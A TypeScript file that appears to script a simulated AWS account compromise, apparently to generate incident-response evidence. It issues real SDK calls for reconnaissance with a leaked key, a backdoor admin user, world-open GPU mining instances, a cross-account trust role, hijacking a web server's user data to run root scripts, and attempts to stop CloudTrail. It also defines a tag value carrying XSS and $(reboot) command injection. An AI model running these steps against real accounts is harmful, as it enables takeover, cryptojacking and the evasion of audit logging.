import { DeleteTrailCommand, DescribeTrailsCommand, ListTrailsCommand, LookupEventsCommand, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateKeyPairCommand,
  CreateSecurityGroupCommand,
  CreateTagsCommand,
  DescribeImagesCommand,
  DescribeInstanceAttributeCommand,
  DescribeInstancesCommand,
  DescribeKeyPairsCommand,
  DescribeRegionsCommand,
  DescribeSecurityGroupsCommand,
  DescribeVolumesCommand,
  GetConsoleOutputCommand,
  ModifyInstanceAttributeCommand,
  RunInstancesCommand,
  StartInstancesCommand,
  StopInstancesCommand,
} from '@aws-sdk/client-ec2';
import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateRoleCommand,
  CreateUserCommand,
  GetAccountAuthorizationDetailsCommand,
  GetAccountSummaryCommand,
  GetUserCommand,
  ListAccessKeysCommand,
  ListAttachedUserPoliciesCommand,
  ListRolesCommand,
  ListUserPoliciesCommand,
  ListUsersCommand,
  PutRolePolicyCommand,
} from '@aws-sdk/client-iam';
import { AssumeRoleCommand, GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import type { Loot } from '../loot.ts';
import type { Scene } from '../moves.ts';
import { type Actor, refused, type Stage } from '../stage.ts';
import { intruderUserData } from '../web-server/traces.ts';
import type { Cast } from './cast.ts';
import type { Company } from './company.ts';

const DENIED = ['AccessDenied', 'AccessDeniedException'] as const;

/** Tags come from the attacker: a tool that pastes one into a page or a shell shows it here. */
export const HOSTILE_TAG = `do-not-stop'"</b><script>alert(1)</script>$(reboot)\`reboot\``;

/** The attack as scenes at their times; the company's own scenes go in between. */
export function attackScenes(stage: Stage, cast: Cast, company: Company, loot: Loot): { scenes: Scene[]; hands: (() => Actor)[] } {
  const { addresses, agents, times, home, backdoor } = cast;
  loot.credentials.push({ kind: 'key', id: company.ci.accessKeyId, principal: cast.ci, issuedBy: null });
  const leaked: Actor = { ...company.ci, ip: addresses.attacker, userAgent: agents.shared };
  // Filled in as the attack goes on.
  let secondKey = leaked;
  let session = leaked;
  let ghost = leaked;
  const iamArn = (kind: string, name: string) => `arn:aws:iam::${cast.account}:${kind}/${name}`;
  const made = (type: string, id: string, arn: string, region: string, by: Actor, names?: string[]): void => {
    loot.resources.push({ type, id, arn, region, createdAt: new Date(stage.called).toISOString(), by: by.accessKeyId, ...(names ? { names } : {}) });
  };
  const newKey = async (by: Actor, user: string): Promise<Actor> => {
    const { AccessKey } = await stage.as(by, 'iam', 'us-east-1').send(new CreateAccessKeyCommand({ UserName: user }));
    const id = AccessKey!.AccessKeyId!;
    made('AWS::IAM::AccessKey', id, '', 'us-east-1', by);
    loot.attendant.push({ type: 'AWS::IAM::User', id: user, arn: iamArn('user', user), region: 'us-east-1' });
    loot.credentials.push({ kind: 'key', id, principal: user, issuedBy: by.accessKeyId });
    return { accessKeyId: id, secretAccessKey: AccessKey!.SecretAccessKey!, ip: addresses.attacker, userAgent: agents.shared };
  };

  /** Somebody's scanner found the key and tries what it is. */
  const probe = async () => {
    const scanner: Actor = { ...leaked, ip: addresses.scanner, userAgent: agents.script };
    await stage.as(scanner, 'sts', 'us-east-1').send(new GetCallerIdentityCommand({}));
    const iam = stage.as(scanner, 'iam', 'us-east-1');
    await iam.send(new GetUserCommand({}));
    await iam.send(new ListUserPoliciesCommand({ UserName: cast.ci }));
    await iam.send(new ListAttachedUserPoliciesCommand({ UserName: cast.ci }));
  };
  /** A person looks around: users, roles, regions, and where machines with GPUs would be allowed. */
  const survey = async () => {
    const iam = stage.as(leaked, 'iam', 'us-east-1');
    await iam.send(new ListUsersCommand({}));
    await iam.send(new ListRolesCommand({}));
    await iam.send(new ListAccessKeysCommand({ UserName: cast.ci }));
    await iam.send(new ListAttachedUserPoliciesCommand({ UserName: cast.admin }));
    await iam.send(new GetAccountSummaryCommand({}));
    await iam.send(new GetAccountAuthorizationDetailsCommand({ Filter: ['User', 'Role'] }));
    const cloudtrail = stage.as(leaked, 'cloudtrail', home);
    await refused(cloudtrail.send(new LookupEventsCommand({})), ...DENIED);
    await refused(cloudtrail.send(new ListTrailsCommand({})), ...DENIED);
    await stage.as(leaked, 'ec2', home).send(new DescribeRegionsCommand({}));
    for (const region of [home, cast.second, ...cast.attacked]) {
      await stage.as(leaked, 'ec2', region).send(new DescribeInstancesCommand({ MaxResults: 100 }));
      await stage.as(leaked, 'ec2', region).send(new DescribeSecurityGroupsCommand({ MaxResults: 100 }));
    }
    await stage.as(leaked, 'ec2', home).send(new DescribeVolumesCommand({ MaxResults: 100 }));
    await stage.as(leaked, 'ec2', home).send(new DescribeKeyPairsCommand({}));
    for (const region of cast.attacked) {
      const ImageId = await gpuImage(leaked, region);
      const ask = { ImageId, InstanceType: cast.loot.types[0] as 'g5.xlarge', MinCount: 1, MaxCount: 1, DryRun: true };
      await refused(stage.as(leaked, 'ec2', region).send(new RunInstancesCommand(ask)), 'DryRunOperation');
    }
  };
  const gpuImage = async (by: Actor, region: string): Promise<string> => {
    const { Images } = await stage
      .as(by, 'ec2', region)
      .send(new DescribeImagesCommand({ Owners: ['amazon'], Filters: [{ Name: 'name', Values: ['Deep Learning*'] }] }));
    return Images![0]!.ImageId!;
  };
  /** Ways to come back: a second key, a user with a harmless name, a key and a password for it. */
  const persist = async () => {
    secondKey = await newKey(leaked, cast.ci);
    const iam = stage.as(leaked, 'iam', 'us-east-1');
    await iam.send(new CreateUserCommand({ UserName: backdoor.user }));
    made('AWS::IAM::User', backdoor.user, iamArn('user', backdoor.user), 'us-east-1', leaked);
    await iam.send(new AttachUserPolicyCommand({ UserName: backdoor.user, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' }));
    ghost = { ...(await newKey(leaked, backdoor.user)), ip: addresses.proxy };
    await iam.send(new CreateLoginProfileCommand({ UserName: backdoor.user, Password: backdoor.password, PasswordResetRequired: false }));
    made('AWS::IAM::LoginProfile', backdoor.user, '', 'us-east-1', leaked);
    loot.credentials.push({ kind: 'password', id: backdoor.user, principal: backdoor.user, issuedBy: leaked.accessKeyId });
  };
  /** Machines with GPUs in a region nobody looks at, reachable by anybody. */
  const mine = async (index: 0 | 1 | 2, by: Actor) => {
    const region = cast.attacked[index];
    const ec2 = stage.as(by, 'ec2', region);
    const arn = (kind: string, id: string) => `arn:aws:ec2:${region}:${cast.account}:${kind}/${id}`;
    const pair = await ec2.send(new CreateKeyPairCommand({ KeyName: cast.loot.pair, KeyType: 'rsa' }));
    made('AWS::EC2::KeyPair', pair.KeyPairId!, arn('key-pair', pair.KeyPairId!), region, by, [cast.loot.pair, arn('key-pair', cast.loot.pair)]);
    const { GroupId } = await ec2.send(new CreateSecurityGroupCommand({ GroupName: cast.loot.group, Description: 'default group for ssh' }));
    made('AWS::EC2::SecurityGroup', GroupId!, arn('security-group', GroupId!), region, by);
    const open = { IpProtocol: 'tcp', FromPort: 0, ToPort: 65535, IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
    await ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId, IpPermissions: [open] }));
    const count = cast.loot.counts[index];
    const { Instances } = await ec2.send(
      new RunInstancesCommand({
        ImageId: await gpuImage(by, region),
        InstanceType: cast.loot.types[index] as 'g5.xlarge',
        MinCount: 1,
        MaxCount: count,
        KeyName: cast.loot.pair,
        SecurityGroupIds: [GroupId!],
        UserData: Buffer.from(intruderUserData({ ...cast.intruder, ip: addresses.attacker, scanner: addresses.scanner })).toString('base64'),
      }),
    );
    for (const { InstanceId } of Instances!) made('AWS::EC2::Instance', InstanceId!, arn('instance', InstanceId!), region, by);
  };
  /** From the second key into the role, and with the role's session a door for another account. */
  const chain = async () => {
    const { Credentials: given } = await stage
      .as(secondKey, 'sts', home)
      .send(new AssumeRoleCommand({ RoleArn: company.ciRoleArn, RoleSessionName: 'rollout', DurationSeconds: 43_200 }));
    session = {
      accessKeyId: given!.AccessKeyId!,
      secretAccessKey: given!.SecretAccessKey!,
      sessionToken: given!.SessionToken!,
      ip: addresses.proxy,
      userAgent: agents.shared,
    };
    loot.credentials.push({ kind: 'session', id: session.accessKeyId, principal: cast.ciRole, issuedBy: secondKey.accessKeyId });
    await stage.as(session, 'sts', home).send(new GetCallerIdentityCommand({}));
    const iam = stage.as(session, 'iam', 'us-east-1');
    await refused(iam.send(new CreateUserCommand({ UserName: 'reporting' })), 'AccessDenied');
    const trust = {
      Version: '2012-10-17',
      Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${backdoor.foreignAccount}:root` }, Action: 'sts:AssumeRole' }],
    };
    await iam.send(new CreateRoleCommand({ RoleName: backdoor.role, AssumeRolePolicyDocument: JSON.stringify(trust) }));
    made('AWS::IAM::Role', backdoor.role, iamArn('role', backdoor.role), 'us-east-1', session);
    loot.credentials.push({ kind: 'role', id: backdoor.role, principal: backdoor.role, issuedBy: session.accessKeyId });
    const all = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] };
    await iam.send(new PutRolePolicyCommand({ RoleName: backdoor.role, PolicyName: 'access', PolicyDocument: JSON.stringify(all) }));
  };
  /** Into the web server: its group opened, its user data replaced over a restart, so that cloud-init runs the intruder's script as root. */
  const enter = async () => {
    const { instanceId, groupId } = company.web;
    const InstanceId = instanceId;
    const ec2 = stage.as(leaked, 'ec2', home);
    await ec2.send(new DescribeInstancesCommand({ InstanceIds: [InstanceId] }));
    await ec2.send(new DescribeVolumesCommand({ Filters: [{ Name: 'attachment.instance-id', Values: [InstanceId] }] }));
    await ec2.send(new DescribeInstanceAttributeCommand({ InstanceId, Attribute: 'userData' }));
    await ec2.send(new GetConsoleOutputCommand({ InstanceId }));
    const open = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] };
    await ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: groupId, IpPermissions: [open] }));
    const script = intruderUserData({ ...cast.intruder, ip: addresses.attacker, scanner: addresses.scanner });
    await ec2.send(new StopInstancesCommand({ InstanceIds: [InstanceId] }));
    stage.until(stage.now + 120_000);
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId, UserData: { Value: Buffer.from(script) } }));
    // A shutdown from inside would now destroy the root volume.
    await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId, InstanceInitiatedShutdownBehavior: { Value: 'terminate' } }));
    await ec2.send(new StartInstancesCommand({ InstanceIds: [InstanceId] }));
    await ec2.send(new CreateTagsCommand({ Resources: [InstanceId], Tags: [{ Key: 'maintenance', Value: HOSTILE_TAG }] }));
    const arn = (kind: string, id: string) => `arn:aws:ec2:${home}:${cast.account}:${kind}/${id}`;
    loot.changed.push(
      { type: 'AWS::EC2::SecurityGroup', id: groupId, arn: arn('security-group', groupId), region: home, how: 'port 22 opened to 0.0.0.0/0' },
      {
        type: 'AWS::EC2::Instance',
        id: InstanceId,
        arn: arn('instance', InstanceId),
        region: home,
        how: 'user data replaced, shutdown behaviour terminate, tagged',
      },
    );
  };
  const blind = async () => {
    const cloudtrail = stage.as(leaked, 'cloudtrail', home);
    await cloudtrail.send(new DescribeTrailsCommand({}));
    for (const call of [new StopLoggingCommand({ Name: `${cast.company.slug}-trail` }), new DeleteTrailCommand({ Name: `${cast.company.slug}-trail` })])
      await refused(cloudtrail.send(call as StopLoggingCommand), ...DENIED);
  };
  const lookBack = async () => {
    await stage.as(ghost, 'sts', 'us-east-1').send(new GetCallerIdentityCommand({}));
    for (const region of cast.attacked) await stage.as(ghost, 'ec2', region).send(new DescribeInstancesCommand({ MaxResults: 100 }));
    await stage.as(leaked, 'ec2', cast.attacked[0]).send(new DescribeInstancesCommand({ MaxResults: 100 }));
  };
  const [first, second, third] = times.mine;
  return {
    // What he may work with once he has made himself at home.
    hands: [() => leaked, () => secondKey, () => ghost],
    scenes: [
      { at: times.probe, play: probe },
      { at: times.survey, play: survey },
      { at: times.persist, play: persist },
      { at: first, play: () => mine(0, leaked) },
      { at: second, play: () => mine(1, secondKey) },
      {
        at: third,
        play: async () => {
          await chain();
          await mine(2, session);
        },
      },
      { at: times.enter, play: enter },
      { at: times.blind, play: blind },
      { at: times.last, play: lookBack },
    ],
  };
}
